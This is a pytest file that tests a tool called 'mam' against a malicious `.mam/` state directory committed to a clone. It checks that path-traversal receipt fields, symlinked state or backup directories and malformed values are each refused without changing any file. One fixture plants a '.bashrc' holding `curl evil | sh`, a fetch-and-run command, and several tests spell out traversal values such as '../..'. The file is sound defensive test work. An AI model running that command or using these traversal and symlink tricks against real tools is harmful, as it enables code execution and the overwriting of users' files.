"""`.mam/` arrives with a clone: every attack through it is refused with exit 6, changing nothing.

Each test lays down a real install, then plays the stranger who committed a crafted `.mam/`
(or shipped it in a tarball), runs the command a user would run, in a child process, and
checks the exit code and that no byte changed anywhere: not outside the workspace (siblings,
a "home" beside it), and not inside it either (the state dir included).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from subproc import run
from workspaces import pinned

USER_CODE = b"print('the user's own program')\n"
BASHRC = b"# ~/.bashrc: executed by bash(1) for non-login shells.\n"
SIBLING = b"another project's file\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def snapshot(root: Path) -> dict[str, Any]:
    """Every entry below ``root``, .mam/ included: bytes and mode, 'dir', or a link target."""
    out: dict[str, Any] = {}
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                out[rel] = f"link -> {os.readlink(path)}"
            elif path.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = (path.read_bytes(), path.stat().st_mode)
    return out


class World:
    """A workspace with a sibling project beside it and a home with a .bashrc, all in tmp."""

    def __init__(self, tmp_path: Path, release: Path, newer: Path) -> None:
        self.top = tmp_path / "world"
        self.parent = self.top / "projects"
        self.ws = self.parent / "ws"
        self.sibling = self.parent / "sibling" / "keep.txt"
        self.bashrc = self.top / "home" / ".bashrc"
        self.outside = self.top / "elsewhere"
        for path, data in ((self.sibling, SIBLING), (self.bashrc, BASHRC)):
            path.parent.mkdir(parents=True)
            path.write_bytes(data)
        self.outside.mkdir()
        (self.outside / "precious").mkdir()
        (self.outside / "precious" / "data.txt").write_bytes(b"not mam's\n")
        (self.outside / "precious" / "album").mkdir()
        (self.outside / "precious" / "album" / "photo.jpg").write_bytes(b"JFIF\n")
        self.ws.mkdir()
        (self.ws / "src").mkdir()
        (self.ws / "src" / "main.py").write_bytes(USER_CODE)
        self.release, self.newer = release, newer
        done = self.mam("install")
        assert done.returncode == 0, done.stderr

    @property
    def receipt(self) -> Path:
        return self.ws / ".mam" / "install-receipt.json"

    def mam(self, command: str, *extra: str | Path) -> Any:
        """Run ``command`` as a user would: install the release, upgrade to a newer one."""
        args: list[str | Path] = [command]
        if command in ("install", "plan"):
            args += ["-y", "--no-host", *pinned(self.release)]
        elif command == "upgrade":
            args += ["-y", "--no-host", *pinned(self.newer)]
        elif command == "uninstall":
            args += ["-y"]
        elif command == "restore":
            args += ["-y", *pinned(self.release), self.ws / "AGENT.md"]
        elif command == "resolve":
            args += ["--keep-mine"]
        return run(*args, "--workspace", self.ws, *extra)

    def craft(self, change: Callable[[dict[str, Any]], None]) -> None:
        doc = json.loads(self.receipt.read_text())
        change(doc)
        self.receipt.write_text(json.dumps(doc, indent=1))

    def refused(self, command: str, *extra: str | Path) -> None:
        """``command`` exits 6, naming the state dir, and nothing anywhere changed."""
        before = snapshot(self.top)
        done = self.mam(command, *extra)
        assert self.sibling.read_bytes() == SIBLING
        assert self.bashrc.read_bytes() == BASHRC
        assert snapshot(self.top) == before, done.stderr
        assert done.returncode == 6, (done.returncode, done.stderr)
        assert str(self.ws / ".mam") in done.stderr, done.stderr


@pytest.fixture
def world(tmp_path: Path, releases: dict[str, Path]) -> World:
    return World(tmp_path, releases["1.0.0"], releases["2.0.0"])


EVERY_COMMAND = (
    "status", "plan", "install", "upgrade", "uninstall", "rollback", "resolve", "restore"
)


def interrupted(doc: dict[str, Any]) -> None:
    doc["run"]["status"] = "in-progress"


def test_backup_path_climbing_out_of_the_state_dir_is_refused_by_status(world):
    # Recovery used to run rmtree(.mam / run.backup): "../.." is the workspace's parent.
    def change(doc: dict[str, Any]) -> None:
        interrupted(doc)
        doc["run"]["backup"] = "../.."

    world.craft(change)
    for command in EVERY_COMMAND:
        world.refused(command)


def test_replace_file_with_an_outside_base_and_a_planted_backup_is_refused(world):
    # Reverting this "replace" would put the planted bytes over a .bashrc outside.
    run_id = "20260101T000000Z-4242"
    base = str(world.bashrc.parent)
    planted = (
        world.ws / ".mam/backup" / run_id / hashlib.sha256(base.encode()).hexdigest()[:16]
    )
    planted.mkdir(parents=True)
    (planted / ".bashrc").write_bytes(b"curl evil | sh\n")

    def change(doc: dict[str, Any]) -> None:
        interrupted(doc)
        doc["run"]["id"], doc["run"]["backup"] = run_id, f"backup/{run_id}"
        doc["actions"].append({
            "tag": "replace_file", "state": "completed", "carried": False, "path": ".bashrc",
            "old_sha256": "0" * 64, "sha256": sha(BASHRC), "mode": 0o644,
            "source": "workspace/AGENT.md", "for_path": ".bashrc", "base": base,
        })

    world.craft(change)
    world.refused("status")
    world.refused("upgrade")


@pytest.mark.parametrize("command", ["uninstall", "install"])
def test_a_path_climbing_out_of_the_workspace_is_refused(world, command):
    def change(doc: dict[str, Any]) -> None:
        doc["actions"].append({
            "tag": "write_file", "state": "completed", "carried": False,
            "path": "../sibling/keep.txt", "sha256": sha(SIBLING), "mode": 0o644,
            "source": "workspace/AGENT.md", "for_path": "../sibling/keep.txt",
        })

    world.craft(change)
    world.refused(command)  # install: the dropped-file clean-up would have removed it


@pytest.mark.parametrize("command", ["uninstall", "install"])
def test_an_absolute_base_is_refused(world, command):
    def change(doc: dict[str, Any]) -> None:
        doc["actions"].append({
            "tag": "write_file", "state": "completed", "carried": False, "path": ".bashrc",
            "sha256": sha(BASHRC), "mode": 0o644, "source": "workspace/AGENT.md",
            "for_path": ".bashrc", "base": str(world.bashrc.parent),
        })

    world.craft(change)
    world.refused(command)


def test_a_file_of_the_user_outside_the_allowlist_is_refused_by_uninstall(world):
    def change(doc: dict[str, Any]) -> None:
        doc["actions"].append({
            "tag": "write_file", "state": "completed", "carried": False, "path": "src/main.py",
            "sha256": sha(USER_CODE), "mode": 0o644, "source": "workspace/AGENT.md",
            "for_path": "src/main.py",
        })

    world.craft(change)
    world.refused("uninstall")
    world.refused("upgrade")


def test_a_version_that_is_a_path_is_refused(world):
    # Uninstall archives the receipt as receipts/<payload_version>.json.
    world.craft(lambda doc: doc.update(payload_version="../../../planted"))
    for command in EVERY_COMMAND:
        world.refused(command)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("mode", "0644"),
        ("sha256", 42),
        ("pre_existed", "yes"),
        ("path", ["AGENT.md"]),
        ("carried", 1),
        ("sha256", "A" * 64),
    ],
)
def test_a_field_of_the_wrong_type_is_a_receipt_error_not_a_crash(world, field, value):
    def change(doc: dict[str, Any]) -> None:
        entry = next(a for a in doc["actions"] if a["tag"] == "write_file")
        entry[field] = value

    world.craft(change)
    world.refused("status")


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("previous_receipt", "../../elsewhere.json"),
        ("previous_receipt", "receipts/../../x.json"),
        ("backup", "backup/../../.."),
        ("id", "../x"),
    ],
)
def test_run_names_are_generated_names_never_paths(world, where, value):
    def change(doc: dict[str, Any]) -> None:
        doc["run"][where] = value

    world.craft(change)
    world.refused("status")
    world.refused("rollback")


@pytest.mark.parametrize("name", ["backup", "receipts"])
def test_a_symlinked_backup_or_receipts_dir_is_refused_by_upgrade(world, name):
    target = world.outside / "precious"
    if name == "receipts":
        shutil.rmtree(world.ws / ".mam" / name, ignore_errors=True)
    else:
        (world.ws / ".mam" / name).mkdir(exist_ok=True)
        shutil.rmtree(world.ws / ".mam" / name)
    (world.ws / ".mam" / name).symlink_to(target)
    world.refused("upgrade")
    world.refused("uninstall")
    world.refused("status")


def test_a_symlink_deep_in_the_backup_dir_is_refused(world):
    run_id = "20260101T000000Z-4242"
    backup = world.ws / ".mam/backup" / run_id
    backup.mkdir(parents=True)
    (backup / ".agents").symlink_to(world.outside / "precious")
    world.refused("install")


@pytest.mark.parametrize("name", ["install-receipt.json", "lock"])
def test_a_symlinked_receipt_or_lock_is_refused(world, name):
    target = world.outside / name
    shutil.move(world.ws / ".mam" / name, target)
    (world.ws / ".mam" / name).symlink_to(target)
    world.refused("status")
    world.refused("install")
    world.refused("uninstall")


def test_a_symlinked_state_dir_is_refused_by_uninstall(world):
    # The .mam of the clone points at a directory with a receipt that names files there.
    shutil.move(world.ws / ".mam", world.outside / "state")
    (world.outside / "state/lock").unlink()  # no lock may be created through the link either
    (world.ws / ".mam").symlink_to(world.outside / "state")
    world.refused("uninstall")
    world.refused("status")
    world.refused("install")
    world.refused("rollback")
    world.refused("resolve", "--keep-mine")


def test_a_receipt_of_the_wrong_scope_is_refused(world):
    world.craft(lambda doc: doc.update(scope="host"))
    world.refused("status")


def test_the_state_dir_is_machine_state_that_git_ignores(world):
    assert (world.ws / ".mam/.gitignore").read_bytes().splitlines()[-1] == b"*"
    done = world.mam("uninstall")
    assert done.returncode == 0, done.stderr
    assert not (world.ws / ".mam").exists()
    assert (world.ws / "src/main.py").read_bytes() == USER_CODE
